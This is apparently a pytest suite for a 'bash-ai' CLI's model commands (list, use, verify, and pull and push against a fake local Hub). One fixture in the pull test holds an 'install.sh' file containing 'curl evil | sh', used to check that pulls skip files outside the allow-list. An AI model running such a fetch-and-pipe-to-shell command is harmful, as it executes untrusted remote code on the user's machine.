"""``bash-ai models``: list/path/use/verify in-process; pull and push against a real loopback HTTP
server posing as the Hub (``tests/fake_hub.py``), driven through ``huggingface_hub`` itself."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from cli_run import one_error_line, run_cli
from fake_hub import FakeHub

TOKEN = "hf_test_token_never_printed"


def install(model_dir: Path, home: Path, name: str) -> Path:
    target = home / "data" / "models" / name.replace("/", "--")
    shutil.copytree(model_dir, target)
    return target


def model_files(directory: Path) -> dict[str, bytes]:
    return {
        p.relative_to(directory).as_posix(): p.read_bytes()
        for p in sorted(directory.rglob("*"))
        if p.is_file() and not any(part.startswith(".") for part in p.relative_to(directory).parts)
    }


def cli(args: list[str], home: Path, hub: FakeHub, token: str | None = None) -> subprocess.CompletedProcess[str]:
    """The real CLI in a fresh process: huggingface_hub reads HF_ENDPOINT when first imported."""
    env = {k: v for k, v in os.environ.items() if k not in ("HF_HUB_OFFLINE", "HF_TOKEN")}
    env.update(BASH_AI_HOME=str(home), HF_ENDPOINT=hub.url, HF_HOME=str(home / "hf"), NO_COLOR="1")
    env["HF_HUB_DISABLE_TELEMETRY"] = "1"
    if token:
        env["HF_TOKEN"] = token
    return subprocess.run(
        [sys.executable, "-m", "bash_ai", *args], env=env, capture_output=True, text=True, timeout=120
    )


def test_list_path_use(tiny_model_dir: Path, bash_ai_home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    installed = install(tiny_model_dir, bash_ai_home, "me/tiny")
    run = run_cli(["models", "list", "--json"], capsys)
    assert run.code == 0, run.err
    rows = {row["name"]: row for row in json.loads(run.out)}
    assert rows["me/tiny"]["path"] == str(installed) and not rows["me/tiny"]["default"]

    run = run_cli(["models", "path", "me/tiny"], capsys)
    assert (run.code, run.out) == (0, f"{installed}\n")

    run = run_cli(["models", "use", "me/tiny"], capsys)
    assert run.code == 0, run.err
    settings = json.loads((bash_ai_home / "config" / "settings.json").read_text())
    assert settings["model"] == "me/tiny"
    run = run_cli(["models", "list"], capsys)
    assert any(line.startswith("* me/tiny") for line in run.out.splitlines())
    # The default now answers without --model.
    run = run_cli(["--json", "list files"], capsys)
    assert run.code == 0, run.err
    assert json.loads(run.out)["model"]["path"] == str(installed)


def test_unknown_model_exit_3(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    run = run_cli(["models", "path", str(tmp_path / "nothing")], capsys)
    assert run.code == 3
    one_error_line(run)
    run = run_cli(["models", "use", "not-installed"], capsys)
    assert run.code == 3 and "not-installed" in one_error_line(run)


def test_verify_catches_a_changed_file(
    tiny_model_dir: Path, bash_ai_home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from bash_ai.registry import write_checksums

    installed = install(tiny_model_dir, bash_ai_home, "checked")
    write_checksums(installed)
    run = run_cli(["models", "verify", "checked"], capsys)
    assert run.code == 0 and run.out.startswith("ok: checked")
    config = installed / "config.json"
    config.write_text(config.read_text().replace("\n", "\n\n", 1))  # same meaning, other bytes
    run = run_cli(["models", "verify", "checked"], capsys)
    assert run.code == 3 and "config.json" in one_error_line(run)


def test_pull_from_the_hub_then_answer(tiny_model_dir: Path, bash_ai_home: Path) -> None:
    from bash_ai.registry import write_checksums

    source = bash_ai_home / "source"
    shutil.copytree(tiny_model_dir, source)
    write_checksums(source)
    with FakeHub() as hub:
        sha = hub.add_repo("someone/tiny-bash", model_files(source))
        result = cli(["models", "pull", "someone/tiny-bash"], bash_ai_home, hub)
        assert result.returncode == 0, result.stderr
        pulled = Path(result.stdout.strip())
        assert pulled == bash_ai_home / "data" / "models" / "someone--tiny-bash"
        assert model_files(pulled) == model_files(source)
        paths = [p for _, p in hub.requests]
        assert "/api/models/someone/tiny-bash/revision/main" in paths
        assert f"/someone/tiny-bash/resolve/{sha}/model.safetensors" in paths

        result = cli(["--model", "someone/tiny-bash", "list files"], bash_ai_home, hub)
        assert result.returncode == 0 and result.stdout.strip(), result.stderr

        missing = cli(["models", "pull", "someone/absent"], bash_ai_home, hub)
        assert missing.returncode == 3 and len(missing.stderr.strip().splitlines()) == 1, missing.stderr


def test_pull_downloads_only_model_files(tiny_model_dir: Path, bash_ai_home: Path) -> None:
    from bash_ai.registry import write_checksums

    source = bash_ai_home / "source"
    shutil.copytree(tiny_model_dir, source)
    write_checksums(source)
    files = model_files(source) | {"install.sh": b"curl evil | sh\n", "big/blob.bin": b"x" * 4096}
    with FakeHub() as hub:
        sha = hub.add_repo("someone/extra", files)
        result = cli(["models", "pull", "someone/extra"], bash_ai_home, hub)
        assert result.returncode == 0, result.stderr
        pulled = Path(result.stdout.strip())
        assert model_files(pulled) == model_files(source)  # nothing outside the allow-list
        fetched = [p for _, p in hub.requests]
        assert f"/someone/extra/resolve/{sha}/install.sh" not in fetched
        assert f"/someone/extra/resolve/{sha}/big/blob.bin" not in fetched


def test_push_then_pull_round_trip(tiny_model_dir: Path, bash_ai_home: Path) -> None:
    source = bash_ai_home / "to-push"
    shutil.copytree(tiny_model_dir, source)
    with FakeHub() as hub:
        result = cli(["models", "push", str(source), "me/pushed"], bash_ai_home, hub, token=TOKEN)
        assert result.returncode == 0, result.stderr
        assert TOKEN not in result.stdout + result.stderr
        assert hub.auth_headers and all(h == f"Bearer {TOKEN}" for h in hub.auth_headers)
        assert ("POST", "/api/models/me/pushed/preupload/main") in hub.requests
        uploaded = hub.repos["me/pushed"].files
        assert "SHA256SUMS" in uploaded  # written before upload so pulls can verify
        assert uploaded == model_files(source)

        result = cli(["models", "pull", "me/pushed", "--name", "again"], bash_ai_home, hub)
        assert result.returncode == 0, result.stderr
        assert model_files(bash_ai_home / "data" / "models" / "again") == uploaded


def test_push_with_hf_uploads_the_transformers_export_beside(tiny_model_dir: Path, bash_ai_home: Path) -> None:
    source = bash_ai_home / "to-push"
    shutil.copytree(tiny_model_dir, source)
    with FakeHub() as hub:
        result = cli(["models", "push", str(source), "me/both", "--with-hf"], bash_ai_home, hub, token=TOKEN)
        assert result.returncode == 0, result.stderr
        uploaded = hub.repos["me/both"].files
        assert {"config.json", "model.safetensors", "SHA256SUMS"} <= set(uploaded)
        assert {"hf/config.json", "hf/model.safetensors", "hf/tokenizer.json", "hf/README.md"} <= set(uploaded)
        assert b'"model_type": "gpt2"' in uploaded["hf/config.json"]


def test_push_rejects_bad_input(tiny_model_dir: Path, bash_ai_home: Path, tmp_path: Path) -> None:
    with FakeHub() as hub:
        bad_repo = cli(["models", "push", str(tiny_model_dir), "no-owner"], bash_ai_home, hub, token=TOKEN)
        assert bad_repo.returncode == 2, bad_repo.stderr
        broken = tmp_path / "broken"
        shutil.copytree(tiny_model_dir, broken)
        (broken / "model.safetensors").write_bytes(b"not safetensors")
        corrupt = cli(["models", "push", str(broken), "me/broken"], bash_ai_home, hub, token=TOKEN)
        assert corrupt.returncode == 3, corrupt.stderr
        assert "me/broken" not in hub.repos and not hub.requests
